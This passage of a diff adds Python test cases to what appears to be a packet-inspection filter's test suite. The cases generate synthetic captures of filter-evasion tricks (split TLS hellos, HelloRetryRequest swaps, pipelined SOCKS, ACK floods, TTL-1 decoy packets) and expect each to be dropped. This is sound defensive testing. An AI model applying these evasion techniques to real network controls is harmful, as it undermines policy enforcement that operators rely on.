+    """Office: the first hello for www.example.org in two records with a warning alert
+    (user_canceled) between (record_type: refused, the office allows), HRR, then the
+    second hello for m.vk.com. Must drop."""
+    m = hs_client_hello(n, sni="www.example.org")
+    cut = 60
+    ch1 = record(22, m[:cut]) + b"\x15\x03\x03\x00\x02\x01\x5a" + record(22, m[cut:])
+    return rt_hrr_custom(n, 44024, 4424, ch1, "m.vk.com", leak(n)), {"leak": [leak(n)]}
+
+
+def rt_hrr_pipe(n, cport, isn, between, name2, mark):
+    """The first hello for www.example.org, then at once `between` and the
+    client's ChangeCipherSpec and second hello for name2 (mark in its padding),
+    before the HRR."""
+    cap = Capture()
+    t = ETcp(cap, O1, cport, SOC, 443, isn=isn, rtt_us=20000)
+    t.handshake()
+    ch1 = hello(n, sni="www.example.org")
+    t.send(True, ch1)
+    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
+    pad = ext(21, mark + b"\x00" * 40)
+    t.send(True, between + CCS + hello(n, sni=name2, sid=sid, extra=[pad]), gap=1000)
+    t.ack(False)
+    t.data(False, hrr_flight(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(mark, n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap
+
+
+@case
+def case_hrr_pipe_alert_vk(n):
+    """Office: hrr_pipe_front's pipelining with a warning alert (user_canceled) ahead of
+    the ChangeCipherSpec: judge_hello_tail walks CCS records only and stops at the
+    alert, so the second hello (m.vk.com) goes out before the HRR. Must drop, and the
+    second hello (its padding holds the marker) must not pass."""
+    return rt_hrr_pipe(n, 44025, 4425, b"\x15\x03\x03\x00\x02\x01\x5a", "m.vk.com", leak(n)), \
+        {"leak": [leak(n)]}
+
+
+@case
+def case_hrr_pipe_early_vk(n):
+    """The same with an application_data record (0-RTT early data) ahead of it."""
+    return rt_hrr_pipe(n, 44026, 4426, record(23, prand(n + "ed", 64), 0x0303), "m.vk.com", leak(n)), \
+        {"leak": [leak(n)]}
+
+
+def rt_hrr_frag_flight(seed, cut):
+    """hrr_flight with the HRR message cut over two handshake records at `cut`
+    (RFC 8446 5.1: handshake messages may be fragmented across records)."""
+    whole = hrr_flight(seed)
+    msg = whole[5:len(whole) - len(CCS)]
+    return record(22, msg[:cut], 0x0303) + record(22, msg[cut:], 0x0303) + CCS
+
+
+@open_case
+def case_hrr_srvfrag_vk(n):
+    """Office: HRR split over two records by the server (its random not contiguous in the
+    stream); the second hello names m.vk.com. Must drop."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44027, SOC, 443, isn=4427, rtt_us=20000)
+    t.handshake()
+    ch1 = hello(n, sni="www.example.org")
+    t.data(True, ch1)
+    t.data(False, rt_hrr_frag_flight(n, 10))
+    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
+    pad = ext(21, leak(n) + b"\x00" * 40)
+    t.data(True, CCS + hello(n, sni="m.vk.com", sid=sid, extra=[pad]))
+    t.data(False, server_hello_flight(n))
+    t.data(True, tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(leak(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+def rt_socks5_pipe(n, cport, isn, inner, mark, dport=1080, split_reply=True):
+    """SOCKS5 with the method greeting and the CONNECT request in one segment
+    (ssh -D's channel_decode_socks5 and Dante read both from the stream), the
+    tunnelled TLS hello for `inner`."""
+    cap = Capture()
+    t = ETcp(cap, O1, cport, SOC, dport, isn=isn, rtt_us=20000)
+    t.handshake()
+    t.data(True, b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(inner)]) + inner.encode() + b"\x01\xbb")
+    rep = b"\x05\x00\x00\x01" + bytes([203, 0, 113, 71]) + b"\x01\xbb"
+    if split_reply:
+        t.data(False, b"\x05\x00")
+        t.data(False, rep)
+    else:
+        t.data(False, b"\x05\x00" + rep)
+    t.data(True, hello(n, sni=inner, sid=sid32(mark)))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(mark, n))
+    t.close()
+    return cap
+
+
+@case
+def case_socks5_pipe(n):
+    """Office: SOCKS5 to port 1080, greeting 05 01 00 and CONNECT www.example.org:443 in
+    one 21-byte segment: proxy.sig's SOCKS5 line wants the payload to be exactly the
+    greeting (len=u8@1+2), nDPI 4.2 wants 3 bytes. Must drop (proxy)."""
+    return rt_socks5_pipe(n, 44031, 4431, "www.example.org", leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_socks5_pipe_vk(n):
+    """The same, CONNECT m.vk.com and the tunnelled hello for m.vk.com: proxy or social."""
+    return rt_socks5_pipe(n, 44032, 4432, VK, leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_socks5_pipe_1rep(n):
+    """rt_socks5_pipe with both server replies in one segment."""
+    return rt_socks5_pipe(n, 44033, 4433, "www.example.org", leak(n), split_reply=False), \
+        {"leak": [leak(n)]}
+
+
+def rt_socks4(n, cport, isn, req, mark, pipe=False, dport=1080):
+    cap = Capture()
+    t = ETcp(cap, O1, cport, SOC, dport, isn=isn, rtt_us=20000)
+    t.handshake()
+    h = hello(n, sni="www.example.org", sid=sid32(mark))
+    if pipe:
+        t.data(True, req + h)
+        t.data(False, b"\x00\x5a\x01\xbb" + bytes([203, 0, 113, 71]))
+    else:
+        t.data(True, req)
+        t.data(False, b"\x00\x5a\x01\xbb" + bytes([203, 0, 113, 71]))
+        t.data(True, h)
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(mark, n))
+    t.close()
+    return cap
+
+
+S4A = b"\x04\x01\x01\xbb\x00\x00\x00\x01" + b"user\x00" + b"www.example.org\x00"
+
+
+@case
+def case_socks4_ctl(n):
+    """Control: SOCKS4a CONNECT www.example.org:443 alone in its segment: proxy."""
+    return rt_socks4(n, 44034, 4434, S4A, leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_socks4_pipe(n):
+    """Office: the SOCKS4a request and the tunnelled ClientHello in one segment (ssh -D's
+    channel_decode_socks4 consumes the request and keeps the rest for the channel):
+    proxy.sig's SOCKS4 line is anchored at the payload's end (\\z), nDPI 4.2 wants the
+    packet to end in NUL. Must drop (proxy)."""
+    return rt_socks4(n, 44035, 4435, S4A, leak(n), pipe=True), {"leak": [leak(n)]}
+
+
+@case
+def case_socks4_longuid(n):
+    """Office: SOCKS4a with a 100-byte user id (ssh -D reads up to 1024 bytes, Dante
+    takes it): the signature allows 64. Must drop (proxy)."""
+    req = b"\x04\x01\x01\xbb\x00\x00\x00\x01" + b"u" * 100 + b"\x00" + b"www.example.org\x00"
+    return rt_socks4(n, 44036, 4436, req, leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_socks4_longuid_p(n):
+    """rt_socks4_longuid with the tunnelled hello in the request's segment."""
+    req = b"\x04\x01\x01\xbb\x00\x00\x00\x01" + b"u" * 100 + b"\x00" + b"www.example.org\x00"
+    return rt_socks4(n, 44037, 4437, req, leak(n), pipe=True), {"leak": [leak(n)]}
+
+
+def rt_acks(t, k):
+    """k bare ACKs from the client (window updates, each a new window)."""
+    for i in range(k):
+        t.raw(True, "A", window=64240 - 8 * i, gap=300)
+
+
+def ssh_after(cap, t, n, both):
+    """An SSH session from the server's banner on (the client's banner, both
+    KEXINITs), then a marked binary packet from the client (and the server's,
+    when both): the rest of an office SSH case."""
+    t.data(False, SSH_SRV)
+    t.data(True, SSH_CLI)
+    t.data(False, ssh_kexinit(n + "s"))
+    t.data(True, ssh_kexinit(n + "c"))
+    t.data(True, struct.pack("!I", 300) + leak(n) + prand(n + "enc1", 300 - len(leak(n))))
+    if both:
+        t.data(False, struct.pack("!I", 300) + leak(n) + prand(n + "enc2", 300 - len(leak(n))))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_ackflood_ssh(n):
+    """Office: SSH to 2222; right after its handshake ACK the client sends 40 bare ACKs
+    (window updates) before the server's banner arrives: past classify_packets (32) with
+    no payload read. Then an ordinary SSH session. Must drop (remote_access)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44041, SOC, 2222, isn=4441, rtt_us=20000)
+    t.handshake()
+    rt_acks(t, 40)
+    return ssh_after(cap, t, n, both=True)
+
+
+@case
+def case_ackflood_vk(n):
+    """Office: 40 bare ACKs after the handshake, then the m.vk.com ClientHello. Must drop."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44042, SOC, 443, isn=4442, rtt_us=20000)
+    t.handshake()
+    rt_acks(t, 40)
+    t.data(True, hello(n, sni=VK, sid=sid32(leak(n))))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(leak(n), n))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_ackflood_ok(n):
+    """Must-allow twin: 40 bare ACKs, then a www.example.org session."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44043, SOC, 443, isn=4443, rtt_us=20000)
+    t.handshake()
+    rt_acks(t, 40)
+    t.data(True, hello(n, sni="www.example.org"))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+def rt_h2c_connect(authority, marker):
+    """The h2c preface, SETTINGS, and a HEADERS frame (END_HEADERS, no END_STREAM)
+    for :method CONNECT, :authority host:port (RFC 9113 8.5), no :scheme or :path."""
+    hb = (b"\x02\x07CONNECT" + b"\x01" + bytes([len(authority)]) + authority
+          + b"\x00\x06x-mark" + bytes([len(marker)]) + marker)
+    return (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
+            + h2_frame(1, 4, 1, hb))
+
+
+def rt_h2c_tunnel(n, cport, isn, authority, inner, mark):
+    cap = Capture()
+    t = ETcp(cap, O1, cport, SOC, 8080, isn=isn, rtt_us=20000)
+    t.handshake()
+    t.data(True, rt_h2c_connect(authority, mark))
+    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
+    t.data(True, h2_frame(4, 1, 0, b"") + h2_frame(0, 0, 1, hello(n, sni=inner, sid=sid32(mark))))
+    t.data(False, h2_frame(0, 0, 1, server_hello_flight(n)))
+    t.data(True, h2_frame(0, 0, 1, marked_record(mark, n)))
+    t.close()
+    return cap
+
+
+@case
+def case_h2c_connect(n):
+    """Office: HTTP/2 with prior knowledge to a forward proxy on 8080 (nghttpx, Envoy,
+    h2o take CONNECT over h2c): :method CONNECT, :authority www.example.org:443, then the
+    tunnelled TLS in DATA frames. The h2 reader notes the CONNECT (h2.c fs->connect) but
+    gives only the authority as the flow's host: no proxy mark. Must drop (proxy)."""
+    return rt_h2c_tunnel(n, 44051, 4451, b"www.example.org:443", "www.example.org", leak(n)), \
+        {"leak": [leak(n)]}
+
+
+@case
+def case_h2c_connect_vk(n):
+    """The same, CONNECT m.vk.com:443 and the tunnelled hello for m.vk.com."""
+    return rt_h2c_tunnel(n, 44052, 4452, b"m.vk.com:443", VK, leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_idle_ssh(n):
+    """Office: SSH to 2222, the client connects, 11 s pass before the server's banner
+    (a slow or loaded sshd; a client that connects ahead). Must drop (remote_access)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44053, SOC, 2222, isn=4453, rtt_us=20000)
+    t.handshake()
+    cap.idle(11)
+    return ssh_after(cap, t, n, both=True)
+
+
+@case
+def case_idle_socks5(n):
+    """Office: SOCKS5 to 1080, the client connects and waits 11 s before its greeting."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44054, SOC, 1080, isn=4454, rtt_us=20000)
+    t.handshake()
+    cap.idle(11)
+    t.data(True, b"\x05\x01\x00")
+    t.data(False, b"\x05\x00")
+    t.data(True, b"\x05\x01\x00\x03\x0fwww.example.org\x01\xbb")
+    t.data(False, b"\x05\x00\x00\x01" + bytes([203, 0, 113, 71]) + b"\x01\xbb")
+    t.data(True, hello(n, sni="www.example.org", sid=sid32(leak(n))))
+    t.data(False, server_hello_flight(n))
+    t.data(True, marked_record(leak(n), n))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_hrr_srvfrag_ok(n):
+    """Must-allow twin of rt_hrr_srvfrag_vk: the fragmented HRR, both hellos name
+    www.example.org."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44028, SOC, 443, isn=4428, rtt_us=20000)
+    t.handshake()
+    ch1 = hello(n, sni="www.example.org")
+    t.data(True, ch1)
+    t.data(False, rt_hrr_frag_flight(n, 10))
+    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
+    pad = ext(21, passm(n) + b"\x00" * 40)
+    t.data(True, CCS + hello(n, sni="www.example.org", sid=sid, extra=[pad]))
+    t.data(False, server_hello_flight(n))
+    t.data(True, tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_hrr_ext70_ok(n):
+    """Must-allow twin of rt_hrr_ext70_vk: the second hello names www.example.org too."""
+    return rt_hrr_custom(n, 44029, 4429, rt_many_ext_hello(n, "www.example.org"), "www.example.org",
+                         passm(n)), {"pass": [passm(n)]}
+
+
+@case
+def case_hrr_alert_ok(n):
+    """Must-allow twin of rt_hrr_alert_vk: the second hello names www.example.org."""
+    m = hs_client_hello(n, sni="www.example.org")
+    ch1 = record(22, m[:60]) + b"\x15\x03\x03\x00\x02\x01\x5a" + record(22, m[60:])
+    return rt_hrr_custom(n, 44030, 4430, ch1, "www.example.org", passm(n)), {"pass": [passm(n)]}
+
+
+def rt_anydesk_flow(n, cport, isn, cut, mark, dport=443):
+    """An AnyDesk-like ClientHello (no server_name, ALPN anydesk/7.1.11/windows),
+    sent whole or cut at byte `cut` (the client's own MSS: a clamped route or a small
+    MTU on the attacker's host), then a TLS 1.2 session."""
+    alpn = b"anydesk/7.1.11/windows"
+    exts = std_exts(n) + [ext(16, struct.pack("!H", len(alpn) + 1) + bytes([len(alpn)]) + alpn)]
+    h = record(22, hs_client_hello(n, exts=exts, sid=sid32(mark)))
+    cap = Capture()
+    t = ETcp(cap, O1, cport, SOC, dport, isn=isn, rtt_us=20000)
+    t.handshake()
+    if cut:
+        t.send(True, h[:cut])
+        t.data(True, h[cut:])
+    else:
+        t.data(True, h)
+    t.data(False, tls12_server_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(mark, n))
+    t.close()
+    return cap
+
+
+@case
+def case_anydesk_ctl(n):
+    """Control: the AnyDesk hello in one segment to 443: remote_access (its ALPN)."""
+    return rt_anydesk_flow(n, 44061, 4461, 0, leak(n)), {"leak": [leak(n)]}
+
+
+@open_case
+def case_anydesk_seg(n):
+    """Office: the same hello in two segments (cut at byte 100): the AnyDesk line of
+    remote_access.sig matches one payload from its record header (^\\x16) to the ALPN,
+    the joined bytes hold 64, and no one reads our own reader's ALPN. Must drop."""
+    return rt_anydesk_flow(n, 44062, 4462, 100, leak(n)), {"leak": [leak(n)]}
+
+
+# A self-signed certificate, CN "AnyDesk Client" (generated once, fixed bytes).
+RT_ANYDESK_CERT = bytes.fromhex(
+    "308201203081c7a00302010202012a300a06082a8648ce3d04030230193117301506035504030c0e416e79"
+    "4465736b20436c69656e743020170d3234303130313030303030305a180f3230373430313031303030303030"
+    "5a30193117301506035504030c0e416e794465736b20436c69656e743059301306072a8648ce3d020106082a"
+    "8648ce3d03010703420004088bb9ff22ab291a74c86fc677ba897baadee370cc6129b82d170ba3fc26415c44"
+    "2da9a716067956d91eaa02b93ad409490e87cd5e758ea6a331a1deb75ba846300a06082a8648ce3d04030203"
+    "48003045022025ca3c8ec1c251b41295bd3666d69bcca6a9e475289376e3a42951ebd7cf53ff022100b8c899"
+    "f0bf98be8c40799d6d40ef33072309a32357e588275b8d3f6a3116c97d")
+
+
+def rt_anydesk_full(n, cport, isn, cut, mark, dport=443):
+    """rt_anydesk_flow with AnyDesk's TLS 1.2 client flight: Certificate ("AnyDesk
+    Client", in clear in TLS 1.2), ClientKeyExchange, CertificateVerify, CCS,
+    Finished."""
+    alpn = b"anydesk/7.1.11/windows"
+    exts = std_exts(n) + [ext(16, struct.pack("!H", len(alpn) + 1) + bytes([len(alpn)]) + alpn)]
+    h = record(22, hs_client_hello(n, exts=exts, sid=sid32(mark)))
+
+    def hs(tp, b):
+        return bytes([tp]) + struct.pack("!I", len(b))[1:] + b
+    c = RT_ANYDESK_CERT
+    certs = struct.pack("!I", len(c))[1:] + c
+    flight = record(22, hs(11, struct.pack("!I", len(certs))[1:] + certs)
+                    + hs(16, b"\x41\x04" + prand(n + "cke", 64))
+                    + hs(15, b"\x04\x03\x00\x47" + prand(n + "cv", 71)), 0x0303)
+    cap = Capture()
+    t = ETcp(cap, O1, cport, SOC, dport, isn=isn, rtt_us=20000)
+    t.handshake()
+    if cut:
+        t.send(True, h[:cut])
+        t.data(True, h[cut:])
+    else:
+        t.data(True, h)
+    t.data(False, tls12_server_flight(n))
+    t.data(True, flight + CCS + record(22, prand(n + "fin", 40), 0x0303))
+    t.data(False, CCS + record(22, prand(n + "sfin", 40), 0x0303))
+    t.data(True, marked_record(mark, n))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap
+
+
+@open_case
+def case_anydesk_cert_seg(n):
+    """rt_anydesk_seg with AnyDesk's client certificate ("AnyDesk Client") in its TLS 1.2
+    flight: remote_access by ALPN or certificate. Must drop."""
+    return rt_anydesk_full(n, 44063, 4463, 100, leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_anydesk_cert_ctl(n):
+    """Control: the same with the hello in one segment."""
+    return rt_anydesk_full(n, 44064, 4464, 0, leak(n)), {"leak": [leak(n)]}
+
+
+def rt_quic_hrr(n, cport, name2, mark, must_pass):
+    """QUIC v1 with a HelloRetryRequest: the client's Initial (ClientHello for
+    www.example.org, CRYPTO offset 0), the server's Initial (the HRR, opaque here),
+    then the client's second Initial (under the first keys, to the server's
+    connection ID, packet number 1) with an ACK and the second ClientHello at CRYPTO
+    offset len(CH1): the Initial CRYPTO stream goes on after an HRR (RFC 9000 19.6,
+    RFC 9001 4.1.3; unlike a Retry, nothing restarts). Then 1-RTT both ways."""
+    cap = Capture()
+    dcid, scid = _q_ids(n)
+    srv = prand(n + "srvcid", 8)
+    ch1 = quic_hs_hello(n, "www.example.org")
+    udp(cap, O1, cport, SOC, 443, quic_initial(dcid, scid, 0, quic_crypto_frame(0, ch1)), gap=2000)
+    udp(cap, SOC, 443, O1, cport, b"\xc0\x00\x00\x00\x01\x08" + scid + b"\x08" + srv
+        + prand(n + "srv", 1150), gap=20000)
+    ch2 = quic_hs_hello(n + "2", name2)
+    frames = b"\x02\x00\x00\x00\x00" + quic_crypto_frame(len(ch1), ch2)
+    udp(cap, O1, cport, SOC, 443, quic_initial(srv, scid, 1, frames, key_dcid=dcid), gap=2000)
+    udp(cap, SOC, 443, O1, cport, b"\xe0\x00\x00\x00\x01\x08" + scid + b"\x08" + srv
+        + prand(n + "srvhs", 1150), gap=20000)
+    udp(cap, O1, cport, SOC, 443, b"\x41" + srv + mark + prand(n + "c2", 300), gap=20000)
+    udp(cap, SOC, 443, O1, cport, b"\x41" + scid + mark + prand(n + "s2", 300), gap=20000)
+    return cap, ({"pass": [mark]} if must_pass else {"leak": [mark]})
+
+
+@open_case
+def case_quic_hrr_ok(n):
+    """Must-allow: an honest QUIC client answered with a HelloRetryRequest (it offered a
+    key share for a group the server does not take) sends its second ClientHello, for the
+    same name, at the CRYPTO offset where the first ended. judge_quic_after keeps the
+    slot until the first short header and quic_crypto_same refuses CRYPTO data past the
+    first hello's end."""
+    return rt_quic_hrr(n, 44071, "www.example.org", passm(n), True)
+
+
+@case
+def case_quic_hrr_fb(n):
+    """The same, the second hello names www.facebook.com: must drop."""
+    return rt_quic_hrr(n, 44072, FB, leak(n), False)
+
+
+def rt_keepalives(t, k):
+    """k TCP keep-alive probes from the client (Windows style: one byte at the
+    sequence number before its next, RFC 9293 3.8.4), each answered by the server's ACK."""
+    for i in range(k):
+        t.raw(True, "A", b"\x00", seq=t.cseq - 1, gap=300)
+        t.raw(False, "A", gap=300)
+
+
+@case
+def case_kalive_vk(n):
+    """Office: 20 keep-alive probes (40 packets with the server's ACKs) before the
+    m.vk.com hello. Must drop."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44081, SOC, 443, isn=4481, rtt_us=20000)
+    t.handshake()
+    rt_keepalives(t, 20)
+    t.data(True, hello(n, sni=VK, sid=sid32(leak(n))))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(leak(n), n))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_kalive_ssh(n):
+    """Office: SSH to 2222, 20 keep-alive probes and their ACKs before the server's
+    banner. Must drop (remote_access)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44082, SOC, 2222, isn=4482, rtt_us=20000)
+    t.handshake()
+    rt_keepalives(t, 20)
+    return ssh_after(cap, t, n, both=False)
+
+
+@case
+def case_ackflood_socks5(n):
+    """Office: 40 bare ACKs, then a SOCKS5 greeting in its own segment. Must drop."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44083, SOC, 1080, isn=4483, rtt_us=20000)
+    t.handshake()
+    rt_acks(t, 40)
+    t.data(True, b"\x05\x01\x00")
+    t.data(False, b"\x05\x00")
+    t.data(True, b"\x05\x01\x00\x03\x0fwww.example.org\x01\xbb")
+    t.data(False, b"\x05\x00\x00\x01" + bytes([203, 0, 113, 71]) + b"\x01\xbb")
+    t.data(True, hello(n, sni="www.example.org", sid=sid32(leak(n))))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_idle_http_ok(n):
+    """Must-allow twin of rt_idle_ssh: the client connects, 11 s pass, then a plain HTTP
+    request for www.example.org and its answer."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44084, SOC, 80, isn=4484, rtt_us=20000)
+    t.handshake()
+    cap.idle(11)
+    t.data(True, http_req(b"www.example.org", passm(n)))
+    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n" + passm(n) + b"x" * 20)
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_http_3k_vk(n):
+    """Office HTTP: one 3 KB Cookie line before Host: m.vk.com (a 3.1 KB head in three
+    segments; nginx's default 1 KB client_header_buffer grows into its 8 KB large
+    buffers). The head is joined whole in the slot, but hs_http_request_check and
+    hs_http_host look at its first HS_SCAN_MAX (2048) bytes only. Must drop."""
+    return rt_big_http(n, 44013, 4413, b"m.vk.com", leak(n), cookie=3000, ncookie=1), \
+        {"leak": [leak(n)]}
+
+
+@case
+def case_http_3k_ok(n):
+    """Must-allow twin: the same 3 KB head for www.example.org."""
+    return rt_big_http(n, 44014, 4414, b"www.example.org", passm(n), cookie=3000, ncookie=1), \
+        {"pass": [passm(n)]}
+
+
+@case
+def case_http_3k_connect(n):
+    """Office: CONNECT www.example.org:443 HTTP/1.1 to port 3128 with a 3 KB
+    Proxy-Authorization line before Host, then the tunnel: proxy (the request line is in
+    the first bytes)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44015, SOC, 3128, isn=4415, rtt_us=20000)
+    t.handshake()
+    head = (b"CONNECT www.example.org:443 HTTP/1.1\r\nProxy-Authorization: Basic " + b"QQ" * 1500
+            + b"\r\nHost: www.example.org:443\r\n\r\n")
+    rt_send_mss(t, head)
+    t.data(False, b"HTTP/1.1 200 Connection established\r\n\r\n")
+    t.data(True, hello(n, sni="www.example.org", sid=sid32(leak(n))))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_http_3k_cut_vk(n):
+    """rt_http_3k_vk with the Host line cut by the 1448-byte segment boundary ("Host: m.v"
+    | "k.com"): no one segment holds the name, and our joined head is read only in its
+    first 2048 bytes (HS_SCAN_MAX). Must drop."""
+    pre = len(b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n") + len(b"Cookie: c0=") + 2
+    c = 2 * 1448 - pre - len(b"Host: m.v")
+    return rt_big_http(n, 44016, 4416, b"m.vk.com", leak(n), cookie=c, ncookie=1), \
+        {"leak": [leak(n)]}
+
+
+@case
+def case_http_3k_cut_ok(n):
+    """Must-allow twin: the same cut for www.example.org."""
+    pre = len(b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n") + len(b"Cookie: c0=") + 2
+    c = 2 * 1448 - pre - len(b"Host: www.ex")
+    return rt_big_http(n, 44017, 4417, b"www.example.org", passm(n), cookie=c, ncookie=1), \
+        {"pass": [passm(n)]}
+
+
+def rt_dht_query(seed, mark):
+    """A BEP 5 get_peers query (bencoded, keys sorted), the marker in its token."""
+    return (b"d1:ad2:id20:" + prand(seed + "id", 20) + b"9:info_hash20:" + prand(seed + "ih", 20)
+            + b"e1:q9:get_peers1:t" + str(len(mark)).encode() + b":" + mark + b"1:y1:qe")
+
+
+@case
+def case_dht_ctl(n):
+    """Control: office, a DHT get_peers query to a node's UDP 6881 and its answer: p2p."""
+    cap = Capture()
+    udp(cap, O1, 44091, SOC, 6881, rt_dht_query(n, b"aa"))
+    udp(cap, SOC, 6881, O1, 44091, b"d1:rd2:id20:" + prand(n + "nid", 20) + b"5:token8:"
+        + prand(n + "tok", 8) + b"e1:t2:aa1:y1:re")
+    udp(cap, O1, 44091, SOC, 6881, rt_dht_query(n + "2", leak(n)))
+    return cap, {"leak": [leak(n)]}
+
+
+@open_case
+def case_udpflood_dht(n):
+    """Office: 40 datagrams of junk to a DHT node (libtorrent drops what does not bdecode;
+    past classify_packets, nothing read: given up, allowed), then DHT queries on the same
+    socket. Must drop (p2p)."""
+    cap = Capture()
+    for i in range(40):
+        udp(cap, O1, 44092, SOC, 6881, prand(n + "j%d" % i, 30), gap=300)
+    udp(cap, O1, 44092, SOC, 6881, rt_dht_query(n, leak(n)))
+    udp(cap, SOC, 6881, O1, 44092, b"d1:rd2:id20:" + prand(n + "nid", 20) + b"5:token8:"
+        + prand(n + "tok", 8) + b"e1:t2:aa1:y1:re")
+    return cap, {"leak": [leak(n)]}
+
+
+RT_DECOY = "ex.a.org"   # the length of m.vk.com: the copies overlap byte for byte
+assert len(RT_DECOY) == len(VK)
+
+
+@case
+def case_ttl_hello_vk(n):
+    """Office: insert_ttl's way: a ClientHello copy for ex.a.org (no class) with TTL 1
+    (it expires before the server), then the m.vk.com hello at the same sequence number.
+    The first copy stays in the slot (as Linux keeps what it queued), but the server never
+    queued it. Must drop (social, or refused)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44101, SOC, 443, isn=44101, rtt_us=20000)
+    t.handshake()
+    d = hello(n, sni=RT_DECOY)
+    h = hello(n, sni=VK, sid=None)
+    assert len(d) == len(h)
+    t.raw(True, "PA", d, ipkw={"ttl": 1})
+    t.data(True, h)
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(leak(n), n))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_hrr_ttl_vk(n):
+    """Office: hellos for ex.a.org, the HRR, then a second hello copy for ex.a.org with TTL
+    1 and the second hello for m.vk.com at the same sequence number (the marker in its
+    padding): the slot keeps the first copy and judge_hello2 compares it. Must drop."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44102, SOC, 443, isn=44102, rtt_us=20000)
+    t.handshake()
+    ch1 = hello(n, sni=RT_DECOY)
+    t.data(True, ch1)
+    t.data(False, hrr_flight(n))
+    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
+    d = CCS + hello(n, sni=RT_DECOY, sid=sid, extra=[ext(21, b"\x00" * (len(leak(n)) + 40))])
+    h = CCS + hello(n, sni=VK, sid=sid, extra=[ext(21, leak(n) + b"\x00" * 40)])
+    assert len(d) == len(h)
+    t.raw(True, "PA", d, ipkw={"ttl": 1})
+    t.data(True, h)
+    t.data(False, server_hello_flight(n))
+    t.data(True, tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(leak(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_ttl_same_ok(n):
+    """Must-allow twin of rt_ttl_hello_vk: the www.example.org hello with TTL 1 (lost
+    after us), then the same bytes again with the ordinary TTL (its retransmission)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44103, SOC, 443, isn=44103, rtt_us=20000)
+    t.handshake()
+    h = hello(n, sni="www.example.org")
+    t.raw(True, "PA", h, ipkw={"ttl": 1})
+    t.data(True, h)
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_hrr_ttl_same_ok(n):
+    """Must-allow twin of rt_hrr_ttl_vk: the second hello (www.example.org) with TTL 1,
+    then the same bytes again."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44104, SOC, 443, isn=44104, rtt_us=20000)
+    t.handshake()
+    ch1 = hello(n, sni="www.example.org")
+    t.data(True, ch1)
+    t.data(False, hrr_flight(n))
